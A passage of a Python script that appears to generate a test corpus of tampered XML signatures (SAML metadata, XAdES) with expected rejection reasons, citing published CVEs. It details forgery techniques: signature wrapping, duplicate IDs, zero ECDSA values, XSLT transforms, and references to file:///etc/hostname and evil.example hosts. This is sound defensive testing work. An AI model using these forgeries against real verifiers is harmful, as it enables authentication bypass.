    for name, uri in [("unknown", "urn:example:c14n"), ("minimal", "http://www.w3.org/2000/09/xmldsig#minimal"), ("xslt", "http://www.w3.org/TR/1999/REC-xslt-19991116"), ("enveloped", ENVELOPED), ("c14n2", "http://www.w3.org/2010/xml-c14n2"), ("without-hash", C14N10 + "WithComments"), ("with-empty-fragment", C14N10 + "#"), ("without-its-hash", EXCLUSIVE.rstrip("#"))]:
        attack(f"canonical-form-{name}", canon(uri), SIGNATURE, found_uri(uri), BEST)
    attack("canonical-form-other-than-signed", canon(C14N10), MISMATCH, "", BEST)
    attack("canonical-form-with-parameters", canon(EXCLUSIVE, "<ds:Transforms/>"), SIGNATURE, "[ds:Transforms]", BEST)
    many = " ".join(f"p{n}" for n in range(65))
    attack("canonical-form-with-many-prefixes", sign(ENTITY, canon=transform(EXCLUSIVE, many, "CanonicalizationMethod")), SIGNATURE, "65", BEST)


def transforms():
    good = sign(ENTITY)
    parts = {
        "xpath": f'<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath xmlns:ds="{DS}">not(ancestor-or-self::node()[local-name()="Organization"])</ds:XPath></ds:Transform>',
        "xpath2": '<ds:Transform Algorithm="http://www.w3.org/2002/06/xmldsig-filter2"><x:XPath xmlns:x="http://www.w3.org/2002/06/xmldsig-filter2" Filter="subtract">//*[local-name()="Organization"]</x:XPath></ds:Transform>',
        "xslt": '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><x/></xsl:template></xsl:stylesheet></ds:Transform>',
    }
    for name, part in parts.items():
        tail = transform(EXCLUSIVE) if name.startswith("xpath") else ""
        references = reference("#_e1", transform(ENVELOPED) + part + tail)
        signed = sign(ENTITY, references=references)
        found = re.search(r'Algorithm="([^"]*)"', part).group(1)
        attack(f"transform-{name}", signed, SIGNATURE, found, BEST)
        attack(f"transform-{name}-and-tampered", swap(signed, "A &lt; B", "evil"), SIGNATURE, found, BEST)
    attack("transform-base64", swap(good, transform(EXCLUSIVE) + "</ds:Transforms>", transform(DS + "base64") + "</ds:Transforms>"), SIGNATURE, DS + "base64", BEST)
    order = transform(EXCLUSIVE) + transform(ENVELOPED)
    swapped = swap(good, transform(ENVELOPED) + transform(EXCLUSIVE), order)
    attack("transform-enveloped-last", swapped, SIGNATURE, "after them", BEST)
    attack("transform-enveloped-twice", swap(good, transform(ENVELOPED), transform(ENVELOPED) * 2), SIGNATURE, '"http://www.w3.org/2000/09/xmldsig#enveloped-signature"', BEST)
    attack("transform-two-forms", swap(good, transform(EXCLUSIVE) + "</ds:Transforms>", transform(EXCLUSIVE) * 2 + "</ds:Transforms>"), SIGNATURE, "after them", BEST)
    attack("transform-not-enveloped", swap(good, transform(ENVELOPED), ""), SIGNATURE, "otherwise", BEST)
    attack("transform-none", re.sub(r"<ds:Transforms>.*?</ds:Transforms>", "", good), SIGNATURE, "otherwise", BEST)
    attack("transform-empty", re.sub(r"<ds:Transforms>.*?</ds:Transforms>", "<ds:Transforms/>", good), SIGNATURE, "otherwise", BEST)
    attack("transform-decryption", swap(good, transform(EXCLUSIVE) + "</ds:Transforms>", transform("http://www.w3.org/2002/07/decrypt#XML") + transform(EXCLUSIVE) + "</ds:Transforms>"), SIGNATURE, "decrypt#XML", BEST)
    attack("transform-with-something-inside", swap(good, transform(ENVELOPED), f'<ds:Transform Algorithm="{ENVELOPED}"><ds:XPath>1</ds:XPath></ds:Transform>'), SIGNATURE, "[ds:XPath]", BEST)
    attack("transform-other-element", swap(good, transform(ENVELOPED), transform(ENVELOPED) + "<ds:XPath/>"), SIGNATURE, "", BEST)
    attack("transform-prefix-list-elsewhere", swap(good, transform(EXCLUSIVE) + "</ds:Transforms>", transform(C14N10)[:-2] + f'><ec:InclusiveNamespaces xmlns:ec="{EXCLUSIVE}" PrefixList="md"/></ds:Transform></ds:Transforms>'), SIGNATURE, "[ec:InclusiveNamespaces]", BEST)


# ------------------------------------------------------------------------------------------------------------- coverage


def coverage():
    source = "Jensen et al., On the Effectiveness of XML Schema Validation for Countering XML Signature Wrapping, 2011"
    with_child_id = ENTITY.replace("<md:Organization>", '<md:Organization ID="_o1">')
    ids = ("ID:EntityDescriptor", "ID:Organization")
    child = sign(with_child_id, references=reference("#_o1", transform(EXCLUSIVE)), ids=ids)
    attack("covers-only-a-child", child, SIGNATURE, 'one to "#_o1"', source)
    attack("covers-only-a-child-and-tampered", swap(child, "https://idp.example/sso", "https://evil.example/sso"), SIGNATURE, 'one to "#_o1"', source)
    attack("covers-only-a-child-enveloped", sign(with_child_id, references=reference("#_o1"), ids=ids), SIGNATURE, 'one to "#_o1"', source)
    both = sign(with_child_id, references=reference("#_e1") + reference("#_o1", transform(EXCLUSIVE)), ids=ids)
    attack("covers-document-and-child", both, SIGNATURE, "another reference", source)
    attack("covers-document-twice", sign(ENTITY, references=reference("#_e1") + reference("")), SIGNATURE, "another reference", source)
    attack("covers-nothing", re.sub(r"<ds:Reference .*?</ds:Reference>", "", sign(ENTITY), flags=re.S), SIGNATURE, "[ds:CanonicalizationMethod, ds:SignatureMethod]", "CVE-2011-1411 and its like")
    one = re.search(r"<ds:Reference .*?</ds:Reference>", sign(ENTITY), re.S).group(0)
    attack("covers-too-much", swap(sign(ENTITY), one, one * 31), SIGNATURE, "ds:Reference, ds:Reference", BEST)
    attack("manifest", swap(sign(ENTITY), '<ds:Reference URI="#_e1">', f'<ds:Reference URI="#m" Type="{DS}Manifest">'), SIGNATURE, 'one to "#m"', SPEC)
    good = sign(ENTITY)
    uri = lambda new: swap(good, 'URI="#_e1"', f'URI="{new}"')
    for name, new in {
        "file": "file:///etc/hostname", "relative-file": "metadata.xml", "http": "https://evil.example/metadata.xml", "http-with-fragment": "https://idp.example/saml#_e1",
        "xpointer-root": "#xpointer(/)", "xpointer-id": "#xpointer(id('_e1'))", "element-scheme": "#element(/1)", "empty-fragment": "#", "percent": "#%5Fe1", "two-fragments": "#_e1#_e1", "query": "?#_e1",
    }.items():
        attack(f"refers-to-{name}", uri(new), SIGNATURE, f'"{new}"', BEST)
    for name, new in {"another": "#_e2", "case": "#_E1", "space": "#_e1 ", "entity-id": "#https://idp.example/saml"}.items():
        attack(f"refers-to-{name}", uri(new), SIGNATURE, f'one to "{new}"', BEST)
    attack("refers-to-nothing", swap(good, ' URI="#_e1"', ""), SIGNATURE, "one without", SPEC)
    attack("refers-by-lower-id", sign(ENTITY.replace('ID="_e1"', 'Id="_e1"'), ids=("Id:EntityDescriptor",)), SIGNATURE, 'one to "#_e1"', "SAML 2.0 Core, section 5.4.2")
    attack("refers-by-entity-id", sign(ENTITY.replace('ID="_e1"', 'ID="_e2"').replace("https://idp.example/saml", "_e1"), ids=("entityID:EntityDescriptor",)), SIGNATURE, 'one to "#_e1"', "SAML 2.0 Core, section 5.4.2")
    # The same ID twice, by the signer's own hand; libxml2 takes any.
    for name, where in {"before": ('<md:Extensions>', '<md:Extensions><x:a xmlns:x="urn:x" Id="_e1"/>'), "after": ("</md:Organization>", '</md:Organization><md:ContactPerson ID="_e1"/>'), "xml-id": ("<md:Organization>", '<md:Organization xml:id="_e1">'), "lower": ("<md:Organization>", '<md:Organization id="_e1">')}.items():
        attack(f"id-twice-{name}", sign(swap(ENTITY, *where), ids=("ID:EntityDescriptor",)) if name != "xml-id" else swap(sign(ENTITY), *where), DOCUMENT, "the ID of the document element on another element", MCINTOSH)
    attack("id-twice-in-signature", swap(good, "<ds:KeyInfo>", '<ds:KeyInfo Id="_e1">'), SIGNATURE, "none", MCINTOSH)
    attack("id-twice-on-signature", swap(good, "<ds:Signature ", '<ds:Signature Id="_e1" '), SIGNATURE, "the same ID on another element", MCINTOSH)
    text = ANYTHING.format(id=' ID="x1"', first="", middle='<item Id="x1"/>', last="{signature}")
    attack("id-twice-any", sign(text, references=reference("#x1"), ids=("ID:urn:example:feed:feed",)), DOCUMENT, "the ID of the document element on another element", MCINTOSH, format="xmldsig")
    accepted("known-id-twice-but-not-used", sign(text, references=reference(""), ids=("ID:urn:example:feed:feed",)), "the reference names no ID", format="xmldsig")
    # Signatures in other places.
    made = element(good, "ds:Signature")
    attack("signature-second-child", swap(good, made, "").replace("  <md:IDPSSO", made + "  <md:IDPSSO"), DOCUMENT, NO_FIRST, "SAML 2.0 Metadata, section 2.3.1")
    attack("signature-behind-text", swap(good, made, "x" + made), DOCUMENT, NO_FIRST, "SAML 2.0 Metadata, section 2.3.1")
    attack("signature-grandchild", swap(good, made, f"<md:Extensions>{made}</md:Extensions>"), DOCUMENT, NO_FIRST, "SAML 2.0 Metadata, section 2.3.1")
    inner = ANYTHING.format(id="", first="<item>{signature}</item>", middle="", last="")
    attack("signature-grandchild-any", sign(inner, references=reference(""), ids=()), DOCUMENT, NO_FIRST, SPEC, format="xmldsig")
    stranger = element(sign(ENTITY, key="stranger"), "ds:Signature")
    attack("two-signatures-strangers-first", swap(good, made, stranger + made), UNKNOWN, "a certificate of another key", MCINTOSH)
    attack("two-signatures-strangers-second", swap(good, made, made + stranger), DOCUMENT, "a second signature", MCINTOSH)
    attack("two-signatures-the-same", swap(good, made, made + made), DOCUMENT, "a second signature", MCINTOSH)
    attack("two-signatures-at-either-end", swap(good, "</md:EntityDescriptor>", stranger + "</md:EntityDescriptor>"), DOCUMENT, "a second signature", MCINTOSH)
    attack("signature-within-signature", swap(good, "</ds:KeyInfo>", f"</ds:KeyInfo><ds:Object>{stranger}</ds:Object>"), SIGNATURE, "ds:Signature", MCINTOSH)
    attack("two-signed-infos", swap(good, element(good, "ds:SignedInfo"), element(stranger, "ds:SignedInfo") + element(good, "ds:SignedInfo")), SIGNATURE, "[ds:SignedInfo, ds:SignedInfo, ds:SignatureValue", "CVE-2025-29774")
    attack("two-signature-values", swap(good, element(good, "ds:SignatureValue"), element(good, "ds:SignatureValue") * 2), SIGNATURE, "[ds:SignedInfo, ds:SignatureValue, ds:SignatureValue", "CVE-2025-29774")
    attack("two-digest-values", swap(good, element(good, "ds:DigestValue"), element(good, "ds:DigestValue") * 2), SIGNATURE, "ds:DigestValue, ds:DigestValue]", "CVE-2024-45409")
    attack("digest-value-in-object", swap(good, "</ds:KeyInfo>", "</ds:KeyInfo><ds:Object><ds:DigestValue>AAAA</ds:DigestValue></ds:Object>"), SIGNATURE, "ds:DigestValue", "CVE-2024-45409")
    attack("order-of-parts", swap(good, element(good, "ds:SignedInfo"), "").replace("<ds:KeyInfo>", element(good, "ds:SignedInfo") + "<ds:KeyInfo>"), SIGNATURE, "[ds:SignatureValue, ds:SignedInfo", SPEC)
    last = sign(ANYTHING.format(id="", first="", middle="", last="{signature}"), references=reference("", transform(ENVELOPED) + transform(EXCLUSIVE, "a")), ids=())
    attack("prefix-list-in-last-position", last, SIGNATURE, "a PrefixList", "cannot be known before the signature is reached", format="xmldsig")


# ------------------------------------------------------------------------------------------------------- values and keys


P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def values():
    good = sign(ENTITY)
    value = base64.b64decode(re.search(r"<ds:SignatureValue>(.*?)</ds:SignatureValue>", good, re.S).group(1))
    r, s = int.from_bytes(value[:32], "big"), int.from_bytes(value[32:], "big")
    text = lambda new: re.sub(r"<ds:SignatureValue>.*?</ds:SignatureValue>", lambda _: f"<ds:SignatureValue>{new}</ds:SignatureValue>", good, flags=re.S)
    raw = lambda new: text(base64.b64encode(new).decode())
    fixed = lambda r, s, size=32: raw(r.to_bytes(size, "big") + s.to_bytes(size, "big"))
    from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
    ecdsa = "RFC 9231, section 2.3.6"
    mismatch = (MISMATCH, "a signature that does not match")
    accepted("known-value-with-negative-s", fixed(r, P256_ORDER - s), "ECDSA is malleable; half of all signers write the one, half the other")
    attack("value-in-der", raw(encode_dss_signature(r, s)), *mismatch, ecdsa)
    attack("value-of-zeros", fixed(0, 0), *mismatch, "CVE-2022-21449")
    attack("value-with-zero-r", fixed(0, s), *mismatch, "CVE-2022-21449")
    attack("value-with-zero-s", fixed(r, 0), *mismatch, "CVE-2022-21449")
    attack("value-of-the-order", fixed(P256_ORDER, P256_ORDER), *mismatch, "CVE-2022-21449")
    attack("value-beyond-the-order", raw(bytes([255]) * 64), *mismatch, ecdsa)
    attack("value-with-wider-numbers", fixed(r, s, 33), *mismatch, ecdsa)
    attack("value-with-more-behind", raw(value + b"\0"), *mismatch, ecdsa)
    attack("value-cut", raw(value[:-1]), *mismatch, ecdsa)
    attack("value-empty", text(""), *mismatch, ecdsa)
    attack("value-swapped", fixed(s, r), *mismatch, ecdsa)
    attack("value-flipped", raw(bytes([value[0] ^ 1]) + value[1:]), *mismatch, ecdsa)
    attack("value-huge", raw(bytes([1]) * 2049), SIGNATURE, "2049", "bounded before it is used")
    plain = base64.b64encode(value).decode()
    accepted("known-value-with-white-space", text(" " + "\n\t".join(plain[i:i + 7] for i in range(0, len(plain), 7)) + "&#13;\n"), "XML Schema, base64Binary")
    for name, new in {"other-alphabet": "-_" + plain[2:], "without-padding": plain.rstrip("="), "with-more-padding": plain + "=", "with-other-characters": plain[:4] + "*" + plain[5:], "with-no-break-space": plain[:4] + "\u00a0" + plain[4:], "with-loose-bits": plain[:-3] + chr(ord(plain[-3]) + 1) + "=="}.items():
        attack(f"base64-{name}", text(new), SIGNATURE, "", "RFC 4648, section 3")
    attack("digest-cut", re.sub(r"<ds:DigestValue>.*?</ds:DigestValue>", "<ds:DigestValue>AAAA</ds:DigestValue>", good), SIGNATURE, "3", "CVE-2009-0217 and its like")
    attack("digest-empty", re.sub(r"<ds:DigestValue>.*?</ds:DigestValue>", "<ds:DigestValue/>", good), SIGNATURE, "0", "CVE-2009-0217 and its like")

    rsa = sign(ENTITY, RSA, key="rsa")
    rvalue = base64.b64decode(re.search(r"<ds:SignatureValue>(.*?)</ds:SignatureValue>", rsa, re.S).group(1))
    rraw = lambda new: re.sub(r"<ds:SignatureValue>.*?</ds:SignatureValue>", lambda _: f"<ds:SignatureValue>{base64.b64encode(new).decode()}</ds:SignatureValue>", rsa, flags=re.S)
    from cryptography.hazmat.primitives import serialization
    modulus = serialization.load_pem_private_key((KEYS / "rsa.key").read_bytes(), None).public_key().public_numbers().n
    pkcs1 = "RFC 8017, section 8.2.2"
    for name, new in {"with-leading-zero": b"\0" + rvalue, "cut": rvalue[:-1], "plus-modulus": (int.from_bytes(rvalue, "big") + modulus).to_bytes(257, "big"), "zero": bytes(256), "one": bytes(255) + b"\1", "modulus-minus-one": (modulus - 1).to_bytes(256, "big")}.items():
        attack(f"rsa-value-{name}", rraw(new), *mismatch, pkcs1, key="rsa")


def keys():
    good = sign(ENTITY)
    stranger = sign(ENTITY, key="stranger")
    mine = element(good, "ds:X509Certificate")
    theirs = element(stranger, "ds:X509Certificate")
    source = "KeyInfo is not trusted: W3C, XML Signature Best Practices, section 2.2"
    attack("key-of-a-stranger", stranger, UNKNOWN, "a certificate of another key", source)
    attack("key-of-a-stranger-under-the-certificate-of-another", swap(stranger, theirs, mine), MISMATCH, "", source)
    attack("key-of-a-stranger-without-certificate", sign(ENTITY, key="stranger", key_info=""), MISMATCH, "", source)
    attack("key-of-a-stranger-among-certificates", swap(stranger, theirs, theirs + mine), MISMATCH, "", source)
    accepted("known-right-key-under-another-certificate", swap(good, mine, theirs), "KeyInfo is only a hint")
    info = lambda inside: swap(good, "<ds:X509Data>", inside + "<ds:X509Data>")
    attack("key-info-points-elsewhere", info('<ds:RetrievalMethod URI="https://evil.example/key"/>'), SIGNATURE, "ds:RetrievalMethod", source)
    attack("key-info-points-elsewhere-1.1", info('<d:KeyInfoReference xmlns:d="http://www.w3.org/2009/xmldsig11#" URI="https://evil.example/key"/>'), SIGNATURE, "d:KeyInfoReference", source)
    attack("key-info-with-another-vocabulary", info(f'<md:EntityDescriptor entityID="https://evil.example/"/>'), SIGNATURE, "md:EntityDescriptor", MCINTOSH)
    attack("key-info-with-encrypted-key", info('<x:EncryptedKey xmlns:x="http://www.w3.org/2001/04/xmlenc#"/>'), SIGNATURE, "x:EncryptedKey", "CVE-2013-2155 and its like")
    attack("key-info-with-text-between", info("evil"), SIGNATURE, "text in ds:KeyInfo", MCINTOSH)
    attack("key-info-with-broken-certificate", swap(good, "<ds:X509Certificate>", "<ds:X509Certificate>*"), SIGNATURE, "", source)
    attack("key-info-twice", swap(good, element(good, "ds:KeyInfo"), element(good, "ds:KeyInfo") * 2), SIGNATURE, "ds:KeyInfo, ds:KeyInfo", SPEC)
    attack("key-expired", sign(ENTITY, RSA, key="rsa"), "key-expired", "", "its certificate ended in 2021", key="rsa-expired")


# ---------------------------------------------------------------------------------------------------------------- XAdES


def xades():
    references = reference("") + properties_reference(transform(EXCLUSIVE))

    def make(more=properties(), references=references, key="rsa"):
        made = signature(RSA, references, more=more, attributes=' Id="sig"')
        return xmlsec1(LIST.format(signature=made), key, XADES_IDS).decode()

    def put(name, content, reason, found, source="ETSI EN 319 132-1"):
        attack(f"xades-{name}", content, reason, found, source, format="trusted-list", key="rsa")

    good = make()
    put("properties-tampered", swap(good, "2026-10-04T13:51:27Z", "2036-10-04T13:51:27Z"), MISMATCH, "")
    put("properties-not-referred-to", make(references=reference("")), SIGNATURE, "one that no reference names")
    put("properties-of-another-signature", swap(good, 'Target="#sig"', 'Target="#other"'), SIGNATURE, "those of another")
    put("properties-without-target", swap(good, ' Target="#sig"', ""), SIGNATURE, "those of another")
    put("properties-twice", swap(good, "</xades:SignedProperties>", "</xades:SignedProperties>" + element(good, "xades:SignedProperties").replace("2026", "2036")), SIGNATURE, "something else in them")
    put("objects-twice", swap(good, "</ds:Object>", "</ds:Object>" + element(good, "ds:Object")), SIGNATURE, "ds:Object, ds:Object")
    put("object-with-something-else", swap(good, "<xades:QualifyingProperties", "<x/><xades:QualifyingProperties"), SIGNATURE, "something else")
    put("object-with-a-document", swap(good, element(good, "xades:QualifyingProperties"), LIST.format(signature="")[LIST.index("<Trust"):]), SIGNATURE, "TrustServiceStatusList")
    put("properties-in-another-namespace", good.replace(XADES, "urn:evil"), SIGNATURE, "xades:QualifyingProperties")
    put("properties-of-an-old-version", good.replace(XADES, "http://uri.etsi.org/01903/v1.1.1#"), SIGNATURE, "xades:QualifyingProperties")
    put("unsigned-properties-tampered-into", swap(good, "</xades:QualifyingProperties>", '<xades:UnsignedProperties><TSPService xmlns="http://uri.etsi.org/02231/v2#"/></xades:UnsignedProperties></xades:QualifyingProperties>'), SIGNATURE, "TSPService")
    put("only-the-properties-are-signed", make(references=properties_reference(transform(EXCLUSIVE))), SIGNATURE, "none")
    put("properties-referred-to-twice", make(references=references + properties_reference(transform(EXCLUSIVE))), SIGNATURE, "another reference")
    put("properties-enveloped", make(references=reference("") + properties_reference(transform(ENVELOPED) + transform(EXCLUSIVE))), SIGNATURE, "otherwise")
    put("properties-by-xpath", swap(good, f'{transform(EXCLUSIVE)}</ds:Transforms><ds:DigestMethod Algorithm="{SHA256}"/><ds:DigestValue>' + good.split("<ds:DigestValue>")[2].split("<")[0], f'{transform("http://www.w3.org/TR/1999/REC-xpath-19991116")}</ds:Transforms><ds:DigestMethod Algorithm="{SHA256}"/><ds:DigestValue>' + good.split("<ds:DigestValue>")[2].split("<")[0]), SIGNATURE, "REC-xpath", BEST)
    put("id-of-properties-on-the-document", swap(good, 'Id="list"', 'Id="props"'), MISMATCH, "", MCINTOSH)
    put("id-of-properties-twice", swap(good, "<xades:SignedSignatureProperties>", '<xades:SignedSignatureProperties Id="props">'), SIGNATURE, "the same ID on another element", MCINTOSH)
    put("id-of-properties-on-key-info", swap(good, "<ds:KeyInfo>", '<ds:KeyInfo Id="props">'), SIGNATURE, "the same ID on another element", MCINTOSH)
    put("document-tampered", swap(good, "https://a.example/tsl.xml", "https://evil.example/tsl.xml"), MISMATCH, "")
    put("content-after-signature", swap(good, "</TrustServiceStatusList>", "<TrustServiceProviderList/></TrustServiceStatusList>"), MISMATCH, "")
    put("sha1-for-properties", re.sub(rf'(?s)(Type="http://uri.etsi.org/01903#SignedProperties".*?){re.escape(SHA256)}', rf"\1{DS}sha1", good), SIGNATURE, f'"{DS}sha1"', BEST)
    old = (HERE.parent / "xml" / "good" / "signxml-xades-c14n11.xml").read_text()
    attack("xades-key-info-tampered", re.sub(r"(?<=Exponent>)AQAB", "AQAA", old), MISMATCH, "", "ETSI EN 319 132-1", format="trusted-list", key="rsa")
    attack("xades-wrong-form-for-properties", signxml(LIST.format(signature=""), "rsa", RSA, SHA256, EXCLUSIVE, xades=True), MISMATCH, "", "signxml 5.2.0 signs so and does not verify it itself", format="trusted-list", key="rsa")


def main():
    shutil.rmtree(HERE / "documents", ignore_errors=True)
    (HERE / "documents").mkdir()
    for make_some in [wrapping, namespaces, left_out, entities, encodings, tampering, algorithms, transforms, coverage, values, keys, xades]:
        make_some()
    head = "file\tformat\tkey\treason\tfound\tsource"
    (HERE / "attacks.tsv").write_text("\n".join([head] + ROWS) + "\n")
    print(f"{len(ROWS)} documents")


if __name__ == "__main__":
    main()
